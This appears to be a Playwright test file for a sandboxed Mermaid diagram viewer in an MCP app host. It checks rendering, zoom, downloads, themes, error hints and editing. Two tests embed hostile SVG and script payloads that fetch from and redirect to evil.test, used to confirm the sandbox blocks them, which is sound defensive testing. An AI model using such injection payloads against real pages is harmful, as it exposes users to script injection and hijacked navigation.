/** The diagram page in a real browser, inside a minimal host that speaks the extension's own protocol. */
import type { Client } from '@modelcontextprotocol/client';
import { build } from 'esbuild';
import { type Browser, chromium, type Frame, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { composeAppPage } from '../../../scripts/build/app-page.ts';
import { CHROMIUM_FLAGS, CHROMIUM_PATH, hasProgram } from '../../support/programs.ts';
import { type Service, startService } from '../../support/service.ts';
import { connectHttp } from '../clients.ts';
import { ONE_PIXEL_PNG } from '../echo-source.ts';

const HOST_URL = 'http://host.test/';
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" viewBox="0 0 200 100"><title>Ümlaut &amp; more</title>' +
  '<rect width="200" height="100" fill="#3366cc"/></svg>';

interface Given {
  result: Record<string, unknown>;
  input?: Record<string, unknown>;
  capabilities?: Record<string, unknown>;
  context?: Record<string, unknown>;
  callResult?: Record<string, unknown>;
  callServer?(params: { name: string; arguments: Record<string, unknown> }): Promise<unknown>;
}

interface Shown {
  page: Page;
  frame: Frame;
  requests: string[];
  faults: string[];
}

function svgResult(svg: string) {
  const structuredContent = { svg };
  return { content: [{ type: 'text', text: JSON.stringify(structuredContent) }], structuredContent };
}

function faultResult(fault: Record<string, unknown>) {
  return { isError: true, content: [{ type: 'text', text: JSON.stringify(fault) }] };
}

const BROKEN = 'graph TD\n  A[Start (now)] --> B';
const FIXED = 'graph TD\n  A["Start (now)"] --> B';
/** What a host says of the call that a page belongs to. */
const TOOL = { toolInfo: { tool: { name: 'render', inputSchema: { type: 'object', required: ['code'] } } } };

describe.skipIf(!hasProgram('chromium'))('the diagram page', () => {
  let browser: Browser;
  let hostScript: string;
  let html: string;
  const open: Page[] = [];

  beforeAll(async () => {
    const bundle = await build({
      entryPoints: ['test/peers/mcp-app-host.js'],
      bundle: true,
      write: false,
      format: 'iife',
      platform: 'browser',
    });
    hostScript = bundle.outputFiles[0]?.text ?? '';
    ({ text: html } = await composeAppPage());
    browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_FLAGS });
  });
  afterEach(async () => {
    for (const page of open.splice(0)) await page.close();
  });
  afterAll(() => browser?.close());

  async function show({
    result,
    input = {},
    capabilities = {},
    context = {},
    callResult = {},
    callServer,
  }: Given): Promise<Shown> {
    const page = await browser.newPage();
    open.push(page);
    if (callServer) await page.exposeFunction('callServer', callServer);
    const requests: string[] = [];
    const faults: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    page.on('pageerror', (error) => faults.push(String(error)));
    page.on('console', (message) => {
      if (message.type() === 'error') faults.push(message.text());
    });
    await page.route('**', (route) => {
      if (route.request().url() !== HOST_URL) return route.abort();
      return route.fulfill({
        contentType: 'text/html',
        body: '<!doctype html><meta charset="utf-8"><title>Host</title>',
      });
    });
    await page.goto(HOST_URL);
    await page.addScriptTag({ content: hostScript });
    const given = { html, result, input, capabilities, context, callResult };
    await page.evaluate(`startHost(${JSON.stringify(given)})`);
    const frame = await (await page.waitForSelector('iframe')).contentFrame();
    if (frame === null) throw new Error('the host has no frame');
    await frame.waitForSelector('#stage img, #stage p:not(#note)');
    return { page, frame, requests, faults };
  }

  const naturalWidth = (frame: Frame) =>
    frame.$eval('#stage img', (image) => (image as unknown as { naturalWidth: number }).naturalWidth);
  const width = (frame: Frame) => frame.$eval('#stage img', (image) => (image as unknown as { width: number }).width);
  const seen = <Value>(page: Page, what: string) => page.evaluate(`seen.${what}`) as Promise<Value>;
  const network = (requests: string[]) => requests.filter((url) => !url.startsWith('data:') && url !== 'about:srcdoc');

  it('shows the SVG with its title and requests nothing', async () => {
    const { page, frame, requests, faults } = await show({ result: svgResult(SVG) });
    expect(await naturalWidth(frame)).toBe(200);
    expect(await frame.textContent('#title')).toBe('Ümlaut & more');
    expect(network(requests)).toEqual([HOST_URL]);
    expect(faults).toEqual([]);
    await expect.poll(() => seen<unknown[]>(page, 'sizes')).not.toEqual([]);
  });

  it('reads the text of hosts that pass on no structure', async () => {
    const { content } = svgResult(SVG);
    const { frame } = await show({ result: { content } });
    expect(await naturalWidth(frame)).toBe(200);
  });

  it('shows a PNG result, under the title of the tool', async () => {
    const image = { type: 'image', mimeType: 'image/png', data: ONE_PIXEL_PNG };
    const tool = { name: 'render', title: 'Draw Mermaid', inputSchema: { type: 'object' } };
    const { frame } = await show({ result: { content: [image] }, context: { toolInfo: { tool } } });
    expect(await naturalWidth(frame)).toBe(1);
    expect(await frame.textContent('#title')).toBe('Draw Mermaid');
  });

  it('runs and loads nothing of a hostile SVG', async () => {
    const hostile = SVG.replace(
      '<rect',
      '<script>parent.postMessage("owned","*");fetch("http://evil.test/a")</script><style>@import "http://evil.test/b"</style>' +
        '<image href="http://evil.test/c.png" onload="top.location=\'http://evil.test/d\'" width="9" height="9"/><rect',
    );
    const { frame, requests } = await show({ result: svgResult(hostile) });
    expect(await naturalWidth(frame)).toBe(200);
    expect(network(requests)).toEqual([HOST_URL]);
  });

  it('lets nothing but its own script run', async () => {
    const { frame, requests } = await show({ result: svgResult(SVG) });
    const ran = await frame.evaluate(`(() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
      return fetch('http://evil.test/e').then(() => 'fetched', () => String(window.injected));
    })()`);
    expect(ran).toBe('undefined');
    expect(network(requests)).toEqual([HOST_URL]);
  });

  it('zooms in, out and back', async () => {
    const { frame } = await show({ result: svgResult(SVG) });
    expect(await width(frame)).toBe(200);
    await frame.click('#zoom-in');
    expect(await width(frame)).toBe(250);
    expect(await frame.textContent('#zoom-reset')).toBe('125%');
    await frame.click('#zoom-out');
    await frame.click('#zoom-out');
    expect(await width(frame)).toBe(160);
    await frame.click('#zoom-reset');
    expect(await width(frame)).toBe(200);
  });

  it('hands the file to a host that accepts downloads', async () => {
    const result = { content: [], structuredContent: { svg: SVG, filename: 'diagram-2026-01-02T03-04-05.svg' } };
    const { page, frame } = await show({ result, capabilities: { downloadFile: {} } });
    await frame.click('#download');
    await expect.poll(() => seen<unknown[]>(page, 'downloads')).toHaveLength(1);
    const [file] = await seen<{ resource: { uri: string; mimeType: string; blob: string } }[]>(page, 'downloads');
    expect(file?.resource.uri).toBe('file:///diagram-2026-01-02T03-04-05.svg');
    expect(Buffer.from(file?.resource.blob ?? '', 'base64').toString()).toBe(SVG);
  });

  it.each(['light', 'dark'])('follows the %s theme of the host, also when it changes', async (theme) => {
    const { page, frame } = await show({ result: svgResult(SVG), context: { theme } });
    const color = () => frame.$eval('body', (body) => getComputedStyle(body as never).color);
    expect(await frame.getAttribute('html', 'data-theme')).toBe(theme);
    const before = await color();
    await page.evaluate(`bridge.setHostContext({ theme: '${theme === 'dark' ? 'light' : 'dark'}' })`);
    await expect.poll(color).not.toBe(before);
  });

  it('says what is wrong with the source', async () => {
    const fault = { code: 'INVALID_SYNTAX', message: 'Parse error', line: 2, hint: 'Quote the label.' };
    const { frame } = await show({ result: faultResult(fault) });
    expect(await frame.textContent('[role=alert]')).toBe('Line 2: Parse error\nQuote the label.');
    expect(await frame.isDisabled('#download')).toBe(true);
  });

  describe('with its source', () => {
    let service: Service;
    let client: Client;
    beforeAll(async () => {
      service = await startService();
      await service.warmUp();
      client = await connectHttp(`${service.url}/mcp`, 'legacy');
    });
    afterAll(async () => {
      await client?.close();
      await service?.close();
    });

    /** A host whose server is the real one; calls can be held back. */
    async function edit(
      code: string,
      capabilities: Record<string, unknown>,
      hold?: () => Promise<void>,
    ): Promise<Shown> {
      const call = async (params: { name: string; arguments: Record<string, unknown> }) => {
        const answer = await client.callTool(params, { timeout: 120_000 });
        await hold?.();
        return answer;
      };
      const input = { code };
      const result = (await client.callTool(
        { name: 'render', arguments: input },
        { timeout: 120_000 },
      )) as Given['result'];
      const shown = await show({ result, input, capabilities, context: TOOL, callServer: call });
      await shown.frame.click('#edit');
      return shown;
    }
    const HOST = { serverTools: {}, message: { text: {} } };
    const drawnSource = (frame: Frame) =>
      frame.$eval('#stage img', (image) => (image as unknown as { src: string }).src);

    it('draws what is typed, and dims the picture until then', async () => {
      let release = () => {};
      const held = new Promise<void>((resolve) => {
        release = resolve;
      });
      const { frame, page, faults } = await edit('graph TD\n  A --> B', HOST, () => held);
      const before = await drawnSource(frame);
      await frame.fill('#code', 'graph TD\n  A --> B --> C');
      await expect.poll(() => seen<unknown[]>(page, 'calls')).toHaveLength(1);
      expect(await frame.isDisabled('#download')).toBe(true);
      expect(await frame.getAttribute('#stage', 'class')).toBe('outdated');
      release();
      await expect.poll(() => drawnSource(frame)).not.toBe(before);
      await expect.poll(() => frame.isDisabled('#download')).toBe(false);
      expect(faults).toEqual([]);
    });

    it('shows what is wrong with its line, and applies the fix', async () => {
      const { frame } = await edit('graph TD\n  A --> B', HOST);
      await frame.fill('#code', BROKEN);
      await frame.waitForSelector('#notes .fault');
      expect(await frame.textContent('#notes .fault p')).toMatch(/^Line 2: Unexpected "\("/);
      await frame.getByRole('button', { name: 'Go to line 2' }).click();
      expect(await frame.$eval('#code', (code) => (code as unknown as { selectionStart: number }).selectionStart)).toBe(
        9,
      );
      await frame.getByRole('button', { name: 'Apply the fix' }).click();
      await expect.poll(() => frame.isDisabled('#download')).toBe(false);
      expect(await frame.inputValue('#code')).toBe(FIXED);
      expect(await frame.textContent('#notes')).toBe('');
    });

    it('shows warnings with their fixes', async () => {
      const { frame } = await edit('graph TD\n  A --> B', HOST);
      await frame.fill('#code', 'graph TD\n  A --> B\n  style C fill:#f00');
      await frame.waitForSelector('#notes .warning, #notes .fault');
      expect(await frame.textContent('#notes .warning p')).toMatch(/^Line 3: /);
    });

    it.each([
      ['as a message', { message: { text: {} } }, 'messages', 'Sent to the chat.'],
      ['as context', { updateModelContext: { text: {} } }, 'contexts', 'The chat now has this source.'],
    ])('sends the new source back %s', async (_, capability, where, said) => {
      const { frame, page } = await edit('graph TD\n  A --> B', { serverTools: {}, ...capability });
      await frame.fill('#code', FIXED);
      await frame.getByRole('button', { name: 'Send to the chat' }).click();
      await expect.poll(() => frame.textContent('#notes')).toBe(said);
      const [sent] = await seen<{ content: { text: string }[] }[]>(page, where);
      expect(sent?.content[0]?.text).toContain(`\`\`\`mermaid\n${FIXED}\n\`\`\``);
    });

    it('offers to copy where the host can do neither, and keeps the picture of the first source marked as such', async () => {
      const { frame } = await edit('graph TD\n  A --> B', {});
      expect(await frame.textContent('#send')).toBe('Copy source');
      await frame.fill('#code', FIXED);
      await expect.poll(() => frame.getAttribute('#stage', 'class')).toBe('outdated');
      await frame.getByRole('button', { name: 'Undo changes' }).click();
      await expect.poll(() => frame.isDisabled('#download')).toBe(false);
      await frame.click('#send');
      await expect.poll(() => frame.textContent('#notes')).toMatch(/^(?:Copied|Select)/);
    });
  });

  it('asks for a PNG when the SVG is too large for the model', async () => {
    const { page, frame } = await show({
      result: faultResult({ code: 'RESULT_TOO_LARGE', message: 'Too large' }),
      input: { code: 'graph TD' },
      capabilities: { serverTools: {} },
      context: { toolInfo: { tool: { name: 'render', inputSchema: { type: 'object' } } } },
      callResult: { content: [{ type: 'image', mimeType: 'image/png', data: ONE_PIXEL_PNG }] },
    });
    expect(await naturalWidth(frame)).toBe(1);
    expect(await seen(page, 'calls')).toMatchObject([
      { name: 'render', arguments: { code: 'graph TD', format: 'png' } },
    ]);
  });
});
